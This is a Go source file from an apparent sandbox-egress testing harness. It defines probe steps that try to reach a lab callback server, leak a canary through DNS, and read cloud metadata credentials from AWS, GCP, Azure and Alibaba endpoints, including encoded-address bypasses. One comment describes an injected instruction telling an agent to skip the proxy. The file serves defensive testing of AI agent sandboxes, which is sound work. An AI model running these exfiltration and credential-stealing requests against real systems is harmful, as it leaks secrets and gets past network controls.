package steps

import (
	"fmt"
	"sort"
	"strings"

	"github.com/gatehouse-dev/gatehouse/internal/lab"
	"github.com/gatehouse-dev/gatehouse/internal/probe/wire"
)

// Lab addresses the attempts aim at (docs/lab.md). They exist only inside
// the lab's network namespace.
const (
	callbackV4    = lab.CallbackV4
	callbackV6    = lab.CallbackV6
	inferenceAddr = lab.InferenceV4
	resolverAddr  = lab.ResolverV4
	authorityAddr = lab.AuthorityV4
	metadataV4    = lab.MetadataV4
	metadataV6    = lab.MetadataV6
	wireServer    = lab.WireServerV4
	alibabaMeta   = lab.AlibabaV4
	canaryZone    = lab.CanaryZone
)

// A family is the set of named attempts one kind of step may ask for. Names
// are what feature tables list; the payloads live here, not in the features.
type family map[string]func(canary string) wire.Step

var families = withProxy(map[string]family{
	"reach the callback server": {
		"http":  func(c string) wire.Step { return get("http://" + callbackV4 + "/c/" + c) },
		"https": func(c string) wire.Step { return get("https://" + callbackV4 + "/c/" + c) },
		"tcp": func(c string) wire.Step {
			return wire.Step{Kind: wire.KindTCP, Target: callbackV4 + ":9000", Payload: "GATEHOUSE " + c + "\n"}
		},
		"udp": func(c string) wire.Step {
			return wire.Step{Kind: wire.KindUDP, Target: callbackV4 + ":9001", Payload: "GATEHOUSE " + c}
		},
		"icmp":      func(c string) wire.Step { return wire.Step{Kind: wire.KindICMP, Target: callbackV4, Payload: c} },
		"http-ipv6": func(c string) wire.Step { return get("http://[" + callbackV6 + "]/c/" + c) },
		"tcp-ipv6": func(c string) wire.Step {
			return wire.Step{Kind: wire.KindTCP, Target: "[" + callbackV6 + "]:9000", Payload: "GATEHOUSE " + c + "\n"}
		},
		"icmp-ipv6": func(c string) wire.Step { return wire.Step{Kind: wire.KindICMP, Target: callbackV6, Payload: c} },
		"redirect": func(c string) wire.Step {
			s := get("http://" + inferenceAddr + "/redirect?to=http://" + callbackV4 + "/r/" + c)
			s.Follow = true
			return s
		},
		// The sandbox's environment may name a proxy; an injected instruction
		// says to connect directly, so the probe leaves the proxy out.
		"ignore-proxy": func(c string) wire.Step { return get("http://" + callbackV4 + "/p/" + c) },
	},
	"leak the session canary through DNS": {
		"configured-resolver": func(c string) wire.Step { return dnsq(c+".r."+canaryZone, "", "A") },
		"configured-resolver-txt": func(c string) wire.Step {
			return dnsq(c+".t."+canaryZone, "", "TXT")
		},
		"own-resolver": func(c string) wire.Step { return dnsq(c+".o."+canaryZone, authorityAddr+":53", "A") },
		"own-resolver-aaaa": func(c string) wire.Step {
			return dnsq(c+".q."+canaryZone, authorityAddr+":53", "AAAA")
		},
	},
	"read cloud metadata": {
		"aws-imdsv1": func(c string) wire.Step {
			return get("http://" + metadataV4 + "/latest/meta-data/iam/security-credentials/gatehouse-role")
		},
		"aws-imdsv2": func(c string) wire.Step {
			return wire.Step{
				Kind: wire.KindHTTP, Method: "PUT", Target: "http://" + metadataV4 + "/latest/api/token",
				Headers: map[string]string{"X-aws-ec2-metadata-token-ttl-seconds": "21600"},
				Then: &wire.Chain{
					Target: "http://" + metadataV4 + "/latest/meta-data/iam/security-credentials/gatehouse-role",
					Header: "X-aws-ec2-metadata-token",
				},
			}
		},
		"aws-ipv6": func(c string) wire.Step { return get("http://[" + metadataV6 + "]/latest/meta-data/") },
		"gcp": func(c string) wire.Step {
			return withHeader(get("http://"+metadataV4+"/computeMetadata/v1/instance/service-accounts/default/token"), "Metadata-Flavor", "Google")
		},
		"gcp-by-name": func(c string) wire.Step {
			return withHeader(get("http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"), "Metadata-Flavor", "Google")
		},
		"azure": func(c string) wire.Step {
			return withHeader(get("http://"+metadataV4+"/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"), "Metadata", "true")
		},
		"azure-wireserver": func(c string) wire.Step {
			return withHeader(get("http://"+wireServer+"/machine/?comp=goalstate"), "x-ms-version", "2012-11-30")
		},
		"alibaba": func(c string) wire.Step {
			return get("http://" + alibabaMeta + "/latest/meta-data/ram/security-credentials/")
		},
		"decimal-address":  func(c string) wire.Step { return get("http://2852039166/latest/meta-data/") },
		"hex-address":      func(c string) wire.Step { return get("http://0xa9fea9fe/latest/meta-data/") },
		"ipv4-mapped-ipv6": func(c string) wire.Step { return get("http://[::ffff:" + metadataV4 + "]/latest/meta-data/") },
		"dns-name":         func(c string) wire.Step { return get("http://metadata.gatehouse.test/latest/meta-data/") },
		"redirect": func(c string) wire.Step {
			s := get("http://" + inferenceAddr + "/redirect?to=http://" + metadataV4 + "/latest/meta-data/iam/security-credentials/")
			s.Follow = true
			return s
		},
	},
})

// controlStep is the positive control: the legitimate call the policy must
// still allow in the same session.
//
// It takes the route the platform gives: through the proxy the sandbox's
// environment names (srt, codex and most egress-proxy setups put the only way
// out there), direct when it names none. The harness itself names no proxy,
// so a sandbox without one is tested as it is.
func controlStep(token string) wire.Step {
	return wire.Step{
		ID: "positive-control", Kind: wire.KindHTTP, Method: "POST", UseProxy: true,
		Target:  "http://" + inferenceAddr + "/v1/complete?control=" + token,
		Headers: map[string]string{"X-Gatehouse-Control": token, "Content-Type": "application/json"},
		Body:    `{"prompt":"summarise the report in one line"}`,
	}
}

// plan resolves attempt names of one family into probe steps. addrs are
// the lab's addresses, for the attempts that aim at overridable ones
// (aimedFamilies).
func plan(familyName string, names []string, canary string, addrs lab.Addrs) ([]wire.Step, error) {
	f, ok := families[familyName]
	af, aok := aimedFamilies[familyName]
	if !ok && !aok {
		return nil, fmt.Errorf("no attempts for %q", familyName)
	}
	var steps []wire.Step
	seen := map[string]bool{}
	for _, n := range names {
		var s wire.Step
		if mk, ok := f[n]; ok {
			s = mk(canary)
		} else if mk, ok := af[n]; ok {
			s = mk(addrs, canary)
		} else {
			return nil, fmt.Errorf("unknown attempt %q for %q; known: %s", n, familyName, strings.Join(known(f, af), ", "))
		}
		if seen[n] {
			return nil, fmt.Errorf("attempt %q listed twice", n)
		}
		seen[n] = true
		s.ID = n
		steps = append(steps, s)
	}
	return steps, nil
}

// known lists the attempt names of a family, sorted.
func known(f family, af aimedFamily) []string {
	out := f.names()
	for n := range af {
		out = append(out, n)
	}
	sort.Strings(out)
	return out
}

func (f family) names() []string {
	var out []string
	for n := range f {
		out = append(out, n)
	}
	sort.Strings(out)
	return out
}

func get(url string) wire.Step { return wire.Step{Kind: wire.KindHTTP, Method: "GET", Target: url} }

func dnsq(name, server, qtype string) wire.Step {
	return wire.Step{Kind: wire.KindDNS, Target: name, Server: server, QType: qtype}
}

func withHeader(s wire.Step, k, v string) wire.Step {
	s.Headers = map[string]string{k: v}
	return s
}
